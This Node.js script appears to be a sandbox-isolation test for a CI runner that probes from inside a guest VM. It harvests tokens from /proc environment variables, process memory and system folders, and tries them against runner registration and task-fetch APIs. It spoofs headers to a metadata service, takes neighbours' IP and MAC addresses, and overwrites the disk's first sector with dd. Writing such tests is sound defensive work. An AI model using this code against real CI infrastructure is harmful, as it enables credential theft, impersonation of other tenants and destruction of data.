// Runs in a guest, as the job's user or as root: tries to reach what a job must not reach, with the targets of ATTACK.
// Prints one line of JSON: for each probe "ok" with what it got, or why it failed.
const { execFileSync } = require("node:child_process");
const dgram = require("node:dgram");
const { closeSync, openSync, readdirSync, readFileSync, readSync } = require("node:fs");
const net = require("node:net");
const { networkInterfaces } = require("node:os");
const { join } = require("node:path");

const attack = JSON.parse(process.env.ATTACK);
const results = {};
const PATIENCE = 4000;

function tcp(host, port, { localAddress, send } = {}) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, localAddress });
    const end = (result) => {
      resolve(result);
      socket.destroy();
    };
    socket.setTimeout(PATIENCE, () => end("timeout"));
    socket.on("error", (error) => end(error.code ?? String(error)));
    socket.on("connect", () => (send === undefined ? end("ok") : socket.write(send)));
    socket.on("data", (data) => end(`ok ${data}`));
  });
}

function udp(family, host, port) {
  return new Promise((resolve) => {
    const socket = dgram.createSocket(family);
    const end = (result) => {
      resolve(result);
      socket.close();
    };
    setTimeout(() => end("timeout"), PATIENCE);
    socket.on("message", (data) => end(`ok ${data}`));
    socket.on("error", (error) => end(error.code));
    socket.send("hello", port, host, (error) => error && end(error.code));
  });
}

async function http(url, init = {}) {
  try {
    const answer = await fetch(url, { ...init, signal: AbortSignal.timeout(3 * PATIENCE) });
    return { status: answer.status, body: (await answer.text()).slice(0, 2000) };
  } catch (error) {
    return { status: 0, body: String(error.cause?.code ?? error) };
  }
}

function shell(command) {
  try {
    const script = `PATH=/usr/local/sbin:$PATH; ${command}`;
    return `ok ${execFileSync("/bin/sh", ["-c", script], { stdio: "pipe", timeout: 15_000 })}`;
  } catch (error) {
    return `failed ${error.status} ${String(error.stderr ?? "").slice(0, 200)}`;
  }
}

/** Everything that looks like a token in what this job can read. */
async function tokens(metadata) {
  const texts = [JSON.stringify(metadata), JSON.stringify(process.env)];
  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
    for (const part of ["environ", "cmdline"]) texts.push(read(`/proc/${pid}/${part}`));
    if (/shell-engine|agent\.cjs/.test(read(`/proc/${pid}/cmdline`))) texts.push(...memory(pid));
  }
  for (const folder of ["/opt/act_runner", "/etc/fireteact", "/usr/lib/fireteact", "/home", "/run", "/tmp", "/root"]) {
    for (const file of list(folder)) if (!file.endsWith(".cjs")) texts.push(read(file).slice(0, 100_000));
  }
  return texts.join("\n");
}

function list(folder) {
  try {
    return readdirSync(folder, { recursive: true }).map((name) => join(folder, name));
  } catch {
    return [];
  }
}

function read(path) {
  try {
    return readFileSync(path, "latin1");
  } catch {
    return "";
  }
}

/** Pieces of a process's memory around runner credentials. */
function memory(pid) {
  const pieces = [];
  try {
    const file = openSync(`/proc/${pid}/mem`, "r");
    for (const line of read(`/proc/${pid}/maps`)
      .split("\n")
      .filter((text) => / rw-p /.test(text))) {
      const [from, to] = line
        .split(" ")[0]
        .split("-")
        .map((text) => Number.parseInt(text, 16));
      if (to - from > 2 ** 25) continue;
      const piece = Buffer.alloc(to - from);
      try {
        readSync(file, piece, 0, piece.length, from);
      } catch {
        continue;
      }
      for (let at = piece.indexOf("uuid"); at >= 0; at = piece.indexOf("uuid", at + 1))
        pieces.push(piece.toString("latin1", Math.max(0, at - 300), at + 600));
    }
    closeSync(file);
  } catch {
    // Not allowed.
  }
  return pieces;
}

async function register(found) {
  const rpc = `${attack.forge}/api/actions/runner.v1.RunnerService`;
  const json = { "content-type": "application/json" };
  const candidates = [...new Set(found.match(/[0-9A-Za-z]{40,64}/g) ?? [])].slice(0, 150);
  const answers = await Promise.all(
    candidates.map((token) =>
      http(`${rpc}/Register`, {
        method: "POST",
        headers: json,
        body: JSON.stringify({ name: "intruder", token, labels: ["e2e"] }),
      }),
    ),
  );
  results.registerTried = candidates.length;
  results.register = [...new Set(answers.map(({ status }) => status))];
  const authorization = `token ${process.env.TOKEN}`;
  const scopes = ["admin", "user", "orgs/acme", "repos/acme/site"];
  const asks = scopes.flatMap((scope) => ["GET", "POST"].map((method) => ({ scope, method })));
  const tokenAnswers = await Promise.all(
    asks.map(({ scope, method }) =>
      http(`${attack.forge}/api/v1/${scope}/actions/runners/registration-token`, {
        method,
        headers: { authorization },
      }),
    ),
  );
  results.registrationToken = [...new Set(tokenAnswers.map(({ status }) => status))];
  // Its own credentials, should it find them in the engine's memory, are good for the one job it has.
  const pairs = [...found.matchAll(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g)]
    .slice(0, 40)
    .flatMap(({ 0: uuid, index }) =>
      (found.slice(Math.max(0, index - 300), index + 600).match(/[0-9a-f]{40}/g) ?? []).map(
        (token) => `${uuid} ${token}`,
      ),
    );
  const headers = (pair) => ({ ...json, "x-runner-uuid": pair.split(" ")[0], "x-runner-token": pair.split(" ")[1] });
  const fetched = await Promise.all(
    [...new Set(pairs)].map((pair) => http(`${rpc}/FetchTask`, { method: "POST", headers: headers(pair), body: "{}" })),
  );
  results.ownCredentials = fetched.some(({ status }) => status === 200);
  results.secondJob = fetched.some(({ body }) => body.includes("workflowPayload"));
}

/** What only root can try. */
async function asRoot() {
  const { gateway, bridge, neighbour } = attack;
  const run = (name, command) => (results[`root: ${name}`] = shell(command).slice(0, 300));
  run("control: ARP for the gateway", `busybox arping -c 2 -w 4 -I eth0 ${gateway}`);
  run("ARP for the neighbour", `busybox arping -c 2 -w 4 -I eth0 ${neighbour}`);
  run("ARP for the bridge", `busybox arping -c 2 -w 4 -I eth0 ${bridge}`);
  run("raw broadcast for DHCP", "busybox udhcpc -f -n -q -t 2 -T 1 -i eth0 -s /bin/true");
  for (const address of [neighbour, bridge, "172.31.0.99"]) {
    run(`setup: take ${address}`, `busybox ip addr add ${address}/32 dev eth0`);
    const [host, port] = attack.reachable;
    results[`root: source ${address}`] = await tcp(host, port, { localAddress: address });
    run(`setup: return ${address}`, `busybox ip addr del ${address}/32 dev eth0`);
  }
  run("setup: route", `busybox ip route add ${neighbour}/32 dev eth0`);
  results["root: neighbour on the link"] = await tcp(neighbour, 9000);
  run("setup: route away", `busybox ip route del ${neighbour}/32 dev eth0`);
  run("setup: enable IPv6", "echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6; busybox ip link set eth0 up; sleep 4");
  results["root: setup: has IPv6"] = (networkInterfaces().eth0 ?? []).some(({ family }) => family === "IPv6")
    ? "ok"
    : "no";
  run("IPv6 gateway", "busybox ping6 -c 2 -w 4 -I eth0 fe80::f7:acff:fe1f:1");
  results["root: IPv6 all nodes"] = await udp("udp6", "ff02::1%eth0", 9000);
  results["root: IPv6 link-local listener"] = await tcp("fe80::f7:acff:fe1f:1%eth0", attack.ports[0]);
  run("write to the image", "dd if=/dev/zero of=/dev/vda bs=512 count=1");
  const mac = (networkInterfaces().eth0 ?? [])[0]?.mac;
  const asMac = (address) =>
    ["down", `address ${address}`, "up"].map((change) => `busybox ip link set eth0 ${change}; `).join("") +
    `busybox ip route add default via ${gateway}`;
  run("setup: another MAC", asMac("02:f7:00:00:00:09"));
  results["root: with another MAC"] = await tcp(...attack.reachable);
  run("setup: its own MAC", asMac(mac));
  results["root: control: with its own MAC"] = await tcp(...attack.reachable);
}

async function main() {
  const metadataUrl = "http://169.254.169.254/latest/meta-data/fireteact";
  const accept = { accept: "application/json" };
  const own = await http(metadataUrl, { headers: accept });
  const metadata = JSON.parse(own.body);
  results.uid = process.getuid();
  results["control: forge"] = (await http(`${attack.forge}/api/v1/version`)).status;
  results["control: metadata"] = metadata.runner_id;
  const probes = attack.hosts.flatMap((host) =>
    attack.ports.map((port) => [`tcp ${host}:${port}`, () => tcp(host, port)]),
  );
  for (const host of attack.hosts) probes.push([`udp ${host}`, () => udp("udp4", host, attack.ports[0])]);
  for (const port of [9000, 22, 80]) probes.push([`neighbour ${port}`, () => tcp(attack.neighbour, port)]);
  probes.push(["neighbour udp", () => udp("udp4", attack.neighbour, 9000)]);
  await Promise.all(probes.map(async ([name, probe]) => (results[name] = await probe())));
  // The metadata's own listener knows a guest by its address, whatever the guest says.
  const headers = { ...accept, "x-forwarded-for": attack.neighbour, "x-real-ip": attack.neighbour };
  for (const url of [metadataUrl, metadataUrl.replace("169.254.169.254", `${attack.bridge}:1780`)]) {
    results[`metadata at ${new URL(url).host}`] = (await http(url, { headers })).body.slice(0, 500);
  }
  await register(await tokens(metadata));
  if (process.getuid() === 0) await asRoot();
  console.log(`RESULT ${JSON.stringify(results)}`);
}

void main();
